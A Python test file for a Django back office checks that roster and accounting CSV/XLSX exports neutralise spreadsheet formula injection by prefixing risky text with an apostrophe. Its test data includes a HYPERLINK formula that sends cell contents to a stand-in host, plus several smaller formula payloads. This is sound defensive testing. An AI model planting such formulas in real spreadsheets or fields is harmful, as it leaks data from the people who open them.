"""Every export of the back office quotes a text a spreadsheet would run as a formula
(« CSV injection »): one guard, ``backoffice.spreadsheets.cell``, for rosters and
accounting alike."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy

from guichet.backoffice.spreadsheets import cell, row
from guichet.billing.models import PaymentMethod
from guichet.billing.services.invoicing import credit_invoice
from guichet.billing.services.ledger import record_payment
from guichet.core.roles import Role
from tests.backoffice.people.support import day_camp, family_child
from tests.billing.cast import holder, plain_invoice

HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"Cliquez")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert cell(text) == "'" + text


def test_plain_texts_numbers_amounts_and_dates_are_left_as_they_are():
    day = datetime.date(2026, 3, 1)
    assert row(["Gagnon", "Jean-Pierre", "", 7, Decimal("-14.98"), day]) == [
        "Gagnon",
        "Jean-Pierre",
        "",
        7,
        Decimal("-14.98"),
        day,
    ]
    assert isinstance(cell(gettext_lazy("Yes")), str)  # a label is written as its text


@pytest.mark.django_db
def test_accounting_exports_quote_a_hostile_name_reason_and_reference(client, staff_with):
    clerk = staff_with(Role.ACCOUNTING)
    account, dossier = holder(first_name=HOSTILE)
    invoice = plain_invoice(account, dossier, "100.00", description="@SUM(A1:A9)")
    credit_invoice(invoice, actor=clerk, reason="+Erreur")
    today = datetime.date.today()  # noqa: DTZ011 (the exports' default period: this month)
    for amount, reference in (("50.00", "=1+1"), ("-10.00", "")):
        record_payment(
            invoice,
            amount=Decimal(amount),
            method=PaymentMethod.CHEQUE,
            actor=clerk,
            received_on=today,
            reference=reference,
        )
    client.force_login(clerk)

    def export(kind: str, extension: str) -> bytes:
        url = reverse("backoffice:accounting_export", args=[kind, extension])
        return b"".join(client.get(url).streaming_content)

    invoices = list(csv.reader(io.StringIO(export("factures", "csv").decode("utf-8-sig"))))
    assert invoices[1][2] == "'" + invoice.payer_name
    assert invoices[1][3] == "'@SUM(A1:A9)"
    notes = list(csv.reader(io.StringIO(export("notes-de-credit", "csv").decode("utf-8-sig"))))
    assert notes[1][4] == "'+Erreur"
    payments = list(csv.reader(io.StringIO(export("paiements", "csv").decode("utf-8-sig"))))
    assert payments[1][-2:] == ["'=1+1", "50.00"]
    assert payments[2][-2:] == ["", "-10.00"]  # a refund's amount stays a number

    book = openpyxl.load_workbook(io.BytesIO(export("factures", "xlsx")))
    sheet = book.active
    assert sheet.cell(row=2, column=3).value == "'" + invoice.payer_name
    assert sheet.cell(row=2, column=3).data_type == "s"  # text, not a formula
    book = openpyxl.load_workbook(io.BytesIO(export("paiements", "xlsx")))
    values = list(book.active.iter_rows(min_row=2, values_only=True))
    assert [line[-2:] for line in values] == [("'=1+1", 50), (None, -10)]


@pytest.mark.django_db
def test_a_roster_quotes_a_hostile_first_name_in_xlsx(client_of, staff_with):
    camp = day_camp()
    family_child(camp, first_name=HOSTILE)
    client = client_of(staff_with(Role.REGISTRAR))
    url = reverse("backoffice:roster_export", args=[camp.pk]) + "?format=xlsx"
    book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
    header, first = list(book.active.iter_rows(max_row=2))
    column = [item.value for item in header].index("Prénom")
    assert first[column].value == "'" + HOSTILE
    assert first[column].data_type == "s"
